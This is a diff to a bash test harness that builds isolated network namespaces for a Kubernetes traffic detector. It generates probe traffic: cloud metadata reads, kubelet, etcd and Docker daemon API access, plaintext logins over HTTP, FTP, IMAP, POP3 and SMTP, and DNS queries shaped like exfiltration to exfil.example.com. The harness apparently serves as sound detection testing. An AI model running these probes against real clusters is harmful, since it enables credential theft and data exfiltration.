@@ -14,7 +14,7 @@
 set -euo pipefail
 
 HERE=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
-ALL_SCENARIOS=(http-allowed-and-denied redis-plaintext dns tls-versions postgres-ssl ipv6-cooked mail-starttls)
+ALL_SCENARIOS=(http-allowed-and-denied redis-plaintext dns tls-versions postgres-ssl ipv6-cooked mail-starttls rules-4c)
 PREFIX=fwrec
 NODE=$PREFIX-node
 GW4=10.244.1.1
@@ -159,6 +159,27 @@ make_pod() {
         ip -n "$ns" -6 route add default via $GW6
     fi
     POD_IP4[$app]=$v4; POD_IP6[$app]=$v6
+}
+
+# make_host NAME MAC ADDR[,ADDR] [ROUTE ...]: a namespace on cni0 that is not a node-1 pod (another node,
+# a pod the inventory puts on another node, a client outside the cluster, the metadata server). Each
+# ROUTE is on-link (dev eth0), so its packets cross cni0 once and never a forwarding hop. IPv6 is on
+# only when an address is IPv6, and then sends no router solicitations.
+make_host() {
+    local name=$1 mac=$2 addrs=$3 ns=$PREFIX-$1 idx=${#NETNS[@]} a r v6on=0; shift 3
+    [[ $addrs == *:* ]] && v6on=1
+    add_netns "$ns"
+    ip netns exec "$ns" sysctl -qw net.ipv6.conf.all.disable_ipv6=$((1 - v6on)) \
+        net.ipv6.conf.default.disable_ipv6=$((1 - v6on)) net.ipv6.conf.default.accept_dad=0 \
+        net.ipv6.conf.all.accept_dad=0 net.ipv6.conf.default.router_solicitations=0
+    ip -n "$NODE" link add "fwv$idx" address "02:42:ac:12:00:$(printf %02x "$idx")" type veth \
+        peer name eth0 address "$mac" netns "$ns"
+    ip -n "$NODE" link set "fwv$idx" master cni0 up
+    for a in ${addrs//,/ }; do
+        if [[ $a == *:* ]]; then ip -n "$ns" addr add "$a" dev eth0 nodad; else ip -n "$ns" addr add "$a" dev eth0; fi
+    done
+    ip -n "$ns" link set eth0 up
+    for r in "$@"; do ip -n "$ns" route add "$r" dev eth0; done
 }
 
 # setup SCENARIO IPV6: node + every node-1 pod of the scenario; writes cluster.json.
@@ -445,6 +466,205 @@ scenario_mail_starttls() {
     stop_pid "$prosody"
     stop_pid "$vsftpd"
     stop_pid "$dovecot"
+    teardown_scenario
+}
+
+# rules-4c: the network-visible controls of Kubernetes' 4C's (issue #13). The node namespace is
+# node-1 (172.18.0.2 on cni0 beside the pods' gateway) and so also the hostNetwork pod
+# monitoring/node-exporter; cp-1 and cp-2 (control plane), a client outside the cluster, the cloud's
+# metadata server and kube-system/cp-agent (a pod the inventory puts on cp-1) are namespaces on the
+# same bridge. Pods reach 172.18.0.0/24 and the metadata addresses on-link: every packet crosses
+# cni0 once (the node namespace forwards nothing).
+IMDS4=169.254.169.254
+IMDS6=fd00:ec2::254
+EXTERNAL=172.18.0.100  # in no cluster object: outside the cluster
+
+pause() { sleep 0.2; }  # flows apart in time
+
+tcp_listeners() {  # tcp_listeners NETNS PORT [N]: at least N (1) TCP sockets listen on PORT in NETNS
+    (($(ip netns exec "$1" ss -H -ltn "sport = :$2" | wc -l) >= ${3:-1}))
+}
+
+# tls_probe NETNS HOST:PORT [SNI]: a TLS handshake (openssl s_client, no request), then close_notify.
+tls_probe() {
+    local out
+    out=$(ip netns exec "$1" timeout 10 openssl s_client -connect "$2" -servername "${3:-rules-4c}" </dev/null 2>&1) \
+        || log "s_client $1 -> $2 failed: $(tail -2 <<<"$out")"
+    log "s_client ${1#"$PREFIX-"} -> $2: $(grep -m1 -E '^New, ' <<<"$out")"
+}
+
+# http_probe NETNS CURL_ARGS...: curl, logging the HTTP status (000: no HTTP answer; curl's error in curl.log).
+http_probe() {
+    local ns=$1 code; shift
+    code=$(ip netns exec "$ns" curl -sS -o /dev/null -w '%{http_code}' --max-time 10 "$@" 2>>"$TMP/curl.log") || true
+    log "curl ${ns#"$PREFIX-"} $*: $code"
+}
+
+scenario_rules_4c() {
+    setup rules-4c 0
+    declare -A nip=()
+    local name ip app kns v4 v6
+    while read -r name ip; do nip[$name]=$ip; done < <(python3 "$HERE/cluster.py" nodes rules-4c)
+    local n1=${nip[node-1]} cp1=${nip[cp-1]} cp2=${nip[cp-2]}
+    local api=${POD_IP4[api]} imap=${POD_IP4[dovecot]} smtp=${POD_IP4[exim]}
+    local ftp=${POD_IP4[vsftpd]} dnsd=${POD_IP4[dnsmasq]}
+    # node-1's InternalIP on the bridge; the metadata server is on-link from the node too.
+    ip -n "$NODE" addr add "$n1/24" dev cni0
+    ip -n "$NODE" route add "$IMDS4/32" dev cni0 src "$n1"
+    # The client pod reaches nodes, the external client's network and the metadata server on-link.
+    ip -n $PREFIX-client route add 172.18.0.0/24 dev eth0
+    ip -n $PREFIX-client route add "$IMDS4/32" dev eth0
+    ip -n $PREFIX-client -6 route add "$IMDS6/128" dev eth0
+    ip netns exec $PREFIX-client sysctl -qw net.ipv6.conf.eth0.router_solicitations=0
+    make_host cp-1 02:42:ac:12:01:04 "$cp1/24" 10.244.0.0/16
+    make_host cp-2 02:42:ac:12:01:05 "$cp2/24" 10.244.0.0/16
+    make_host external 02:42:ac:12:01:64 "$EXTERNAL/24"
+    make_host metadata 02:42:a9:fe:a9:fe "$IMDS4/32,$IMDS6/128" 10.244.1.0/24 172.18.0.0/24 fd00:10:244:1::/64
+    # kube-system/cp-agent: on cp-1 for the inventory, here one more namespace on the bridge.
+    while read -r app kns v4 v6; do
+        make_host "$app" "$(printf '02:42:0a:f4:00:%02x' "${v4##*.}")" "$v4/24" 172.18.0.0/24
+    done < <(python3 "$HERE/cluster.py" pods rules-4c cp-1)
+
+    local t=$TMP/rules-4c  # this scenario's own files (the other scenarios' stay apart)
+    mkdir -p "$t"; chmod 755 "$TMP" "$t"
+    openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -keyout "$t/tls.key" \
+        -out "$t/tls.crt" -days 30 -subj "/CN=rules-4c" \
+        -addext "subjectAltName=DNS:rules-4c,IP:$cp1,IP:$n1" 2>/dev/null
+    local pids=() www=$t/www imds=$t/imds
+    mkdir -p "$www" "$imds/latest/meta-data"
+    printf 'hello\n' >"$www/index.html"
+    printf '{"kind":"PodList","apiVersion":"v1","items":[]}\n' >"$www/pods"
+    printf '{"Version":"24.0.7","ApiVersion":"1.43"}\n' >"$www/version"
+    printf 'node_load1 0.42\n' >"$www/metrics"
+    printf 'ami-id\nhostname\niam/\ninstance-id\nlocal-ipv4\n' >"$imds/latest/meta-data/index.html"
+    # bg_http NETNS LOG ADDR PORT DIR / bg_tls NETNS LOG ADDR PORT: a listener we stop at the end.
+    bg_http() { start_bg "$1" "$2" python3 -m http.server "$4" --bind "$3" --directory "$5"; pids+=($!); }
+    bg_tls() {
+        start_bg "$1" "$2" openssl s_server -www -accept "$3:$4" -cert "$t/tls.crt" -key "$t/tls.key"
+        pids+=($!)
+    }
+    bg_http $PREFIX-metadata imds4 "$IMDS4" 80 "$imds"
+    bg_http $PREFIX-metadata imds6 "$IMDS6" 80 "$imds"
+    bg_tls $PREFIX-cp-1 etcd-client "$cp1" 2379
+    bg_http $PREFIX-cp-1 etcd-peer "$cp1" 2380 "$www"       # plaintext on an etcd port
+    bg_tls $PREFIX-cp-1 apiserver "$cp1" 6443
+    bg_tls "$NODE" kubelet "$n1" 10250
+    bg_http "$NODE" kubelet-ro "$n1" 10255 "$www"
+    bg_http "$NODE" dockerd "$n1" 2375 "$www"
+    bg_tls "$NODE" dockerd-tls "$n1" 2376
+    bg_http "$NODE" nodeport-web "$n1" 30080 "$www"         # stands in for kube-proxy's NodePorts
+    bg_http "$NODE" nodeport-store "$n1" 30081 "$www"
+    bg_http "$NODE" node-exporter "$n1" 9100 "$www"         # the hostNetwork pod's listener
+    bg_http $PREFIX-api api "$api" 8080 "$www"
+
+    # Dovecot without TLS (no STARTTLS offered), plaintext authentication allowed.
+    local d=$t/dovecot f=$t/vsftpd e=$t/exim
+    mkdir -p "$d/run" "$d/mail" "$f/pub" "$f/empty" "$e/spool"
+    echo "alice:{PLAIN}wonderland" >"$d/users"
+    chown -R dovecot:dovecot "$d/mail"
+    printf '%s\n' "protocols = imap pop3" "listen = $imap" "base_dir = $d/run" "log_path = $d/dovecot.log" \
+        "ssl = no" "disable_plaintext_auth = no" "auth_mechanisms = plain login" "first_valid_uid = 1" \
+        "mail_location = maildir:$d/mail/%u" \
+        "passdb {" "  driver = passwd-file" "  args = $d/users" "}" \
+        "userdb {" "  driver = static" "  args = uid=dovecot gid=dovecot home=$d/mail/%u" "}" >"$d/dovecot.conf"
+    start_bg $PREFIX-dovecot dovecot dovecot -F -c "$d/dovecot.conf"; pids+=($!)
+    # vsftpd without TLS: anonymous logins, and local logins that ask for a password (alice has no
+    # account here: PAM refuses her after the PASS has crossed).
+    printf 'hello over FTP\n' >"$f/pub/hello.txt"
+    printf '%s\n' listen=YES "listen_address=$ftp" background=NO anonymous_enable=YES "anon_root=$f/pub" \
+        no_anon_password=YES local_enable=YES write_enable=NO pam_service_name=vsftpd \
+        pasv_min_port=21100 pasv_max_port=21110 "secure_chroot_dir=$f/empty" seccomp_sandbox=NO \
+        ssl_enable=NO "vsftpd_log_file=$f/vsftpd.log" >"$f/vsftpd.conf"
+    start_bg $PREFIX-vsftpd vsftpd vsftpd "$f/vsftpd.conf"; pids+=($!)
+    # Exim offering AUTH PLAIN and no STARTTLS (tls_advertise_hosts empty).
+    chown -R Debian-exim "$e"
+    printf '%s\n' 'primary_hostname = mail.svc' 'daemon_smtp_ports = 25' "local_interfaces = $smtp" \
+        'tls_advertise_hosts =' 'auth_advertise_hosts = *' "spool_directory = $e/spool" \
+        "log_file_path = $e/%slog" 'acl_smtp_rcpt = accept' \
+        'begin authenticators' 'plain:' '  driver = plaintext' '  public_name = PLAIN' '  server_prompts = :' \
+        '  server_condition = ${if and {{eq{$auth2}{alice}}{eq{$auth3}{wonderland}}}}' \
+        '  server_set_id = $auth2' \
+        'begin routers' 'discard:' '  driver = redirect' '  data = :blackhole:' >"$e/exim.conf"
+    start_bg $PREFIX-exim exim exim4 -bdf -C "$e/exim.conf"; pids+=($!)
+    start_bg $PREFIX-dnsmasq dnsmasq dnsmasq -k --conf-file=/dev/null --no-resolv --no-hosts \
+        --bind-interfaces --listen-address="$dnsd" --port=53 --pid-file= --user=root \
+        --local=/cluster.local/ --host-record=api.shop.svc.cluster.local,10.96.40.80 \
+        --address=/exfil.example.com/192.0.2.53 --log-queries --log-facility=-
+    pids+=($!)
+
+    wait_until 10 tcp_listeners $PREFIX-metadata 80 2
+    for p in 2379 2380 6443; do wait_until 10 listening cp-1 tcp "$p"; done
+    for p in 10250 10255 2375 2376 30080 30081 9100; do wait_until 10 tcp_listeners "$NODE" "$p"; done
+    wait_until 10 listening api tcp 8080
+    wait_until 10 listening dovecot tcp 143
+    wait_until 10 listening dovecot tcp 110
+    wait_until 10 listening vsftpd tcp 21
+    wait_until 10 listening exim tcp 25
+    wait_until 10 listening dnsmasq udp 53
+    capture_start rules-4c
+
+    # 1. cloud-metadata: a pod over IPv4 and IPv6 (fires); the node, i.e. hostNetwork (must not).
+    http_probe $PREFIX-client "http://$IMDS4/latest/meta-data/"; pause
+    http_probe $PREFIX-client -g "http://[$IMDS6]/latest/meta-data/"; pause
+    http_probe "$NODE" "http://$IMDS4/latest/meta-data/"; pause
+    # 2. etcd-access: a pod and a worker node (fire); cp-2 and the pod on cp-1 (must not); plaintext
+    #    on 2380 from cp-2 (the plaintext finding only).
+    tls_probe $PREFIX-client "$cp1:2379" etcd; pause
+    tls_probe "$NODE" "$cp1:2379" etcd; pause
+    tls_probe $PREFIX-cp-2 "$cp1:2379" etcd; pause
+    http_probe $PREFIX-cp-2 "http://$cp1:2380/"; pause
+    tls_probe $PREFIX-cp-agent "$cp1:2379" etcd; pause
+    # 3. kubelet-access: a pod on 10250 and 10255 (fire); cp-1 on 10250 (must not), on 10255 (fires).
+    http_probe $PREFIX-client -k "https://$n1:10250/pods"; pause
+    http_probe $PREFIX-client "http://$n1:10255/pods"; pause
+    http_probe $PREFIX-cp-1 -k "https://$n1:10250/"; pause
+    http_probe $PREFIX-cp-1 "http://$n1:10255/"; pause
+    # 4. docker-daemon: a pod on 2375 and 2376 (fire); cp-1 on 2375 (fires), on 2376 (must not).
+    http_probe $PREFIX-client "http://$n1:2375/version"; pause
+    http_probe $PREFIX-client -k "https://$n1:2376/version"; pause
+    http_probe $PREFIX-cp-1 "http://$n1:2375/version"; pause
+    tls_probe $PREFIX-cp-1 "$n1:2376" docker; pause
+    # 5. apiserver-plaintext: TLS to the kubernetes endpoint (must not), plain HTTP to it (fires;
+    #    s_server answers no HTTP, the request has crossed).
+    http_probe $PREFIX-client -k "https://$cp1:6443/version"; pause
+    http_probe $PREFIX-client "http://$cp1:6443/version"; pause
+    # 6. plaintext-credentials-protocol: HTTP Basic (fires), Bearer (must not); FTP anonymous (must
+    #    not), FTP USER/PASS (fires, 530 after PASS); IMAP AUTHENTICATE PLAIN and LOGIN, POP3 AUTH
+    #    PLAIN and USER/PASS, SMTP AUTH PLAIN, none after STARTTLS (all fire).
+    http_probe $PREFIX-client -u alice:wonderland "http://$api:8080/"; pause
+    http_probe $PREFIX-client -H 'Authorization: Bearer abc' "http://$api:8080/"; pause
+    inpod client curl -sS --ftp-pasv "ftp://$ftp/" >/dev/null; pause
+    inpod client curl -sS --ftp-pasv "ftp://alice:wonderland@$ftp/" >/dev/null 2>>"$t/curl.log" \
+        || log "ftp as alice: curl $? (login refused after PASS, as intended)"; pause
+    # IMAP and POP3 twice each: curl authenticates with SASL PLAIN (AUTHENTICATE PLAIN, AUTH PLAIN),
+    # Python's imaplib and poplib with the protocols' own LOGIN and USER/PASS commands.
+    inpod client curl -sS "imap://alice:wonderland@$imap/INBOX?ALL" >/dev/null; pause   # SELECT, SEARCH ALL
+    inpod client python3 -c 'import imaplib, sys
+m = imaplib.IMAP4(sys.argv[1]); print("imaplib", m.login("alice", "wonderland")[0]); m.logout()' "$imap"
+    pause
+    inpod client curl -sS "pop3://alice:wonderland@$imap/" >/dev/null; pause            # LIST
+    inpod client python3 -c 'import poplib, sys
+p = poplib.POP3(sys.argv[1]); p.user("alice"); p.pass_("wonderland"); print("poplib", p.stat()); p.quit()' "$imap"
+    pause
+    printf 'Subject: hello\r\n\r\nno STARTTLS\r\n' >"$t/mail.txt"
+    inpod client curl -sS -u alice:wonderland --mail-from a@shop.example --mail-rcpt b@mail.example \
+        -T "$t/mail.txt" "smtp://$smtp/shop.example"; pause                                  # EHLO, AUTH PLAIN
+    # 7. nodeport-external: from outside to shop/web's 30080 (fires) and to the annotated
+    #    shop/store's 30081 (must not); a pod to 30080 (must not).
+    http_probe $PREFIX-external "http://$n1:30080/"; pause
+    http_probe $PREFIX-external "http://$n1:30081/"; pause
+    http_probe $PREFIX-client "http://$n1:30080/"; pause
+    # 8. host-network-listener: a pod to node-exporter's 9100 on the node address (fires).
+    http_probe $PREFIX-client "http://$n1:9100/metrics"; pause
+    # 9. dns-exfil-shape: one ordinary name, then three long random ones (two 52-character labels).
+    local q=(+tries=1 +time=2 +nocookie +short) i label
+    inpod client dig "${q[@]}" @"$dnsd" api.shop.svc.cluster.local A; pause
+    for i in 1 2 3; do
+        label=$(head -c 65 /dev/urandom | base32 -w0 | tr -d = | tr A-Z a-z)
+        inpod client dig "${q[@]}" @"$dnsd" "${label:0:52}.${label:52:52}.exfil.example.com" A; pause
+    done
+    capture_stop
+    for p in "${pids[@]}"; do stop_pid "$p"; done
     teardown_scenario
 }
 
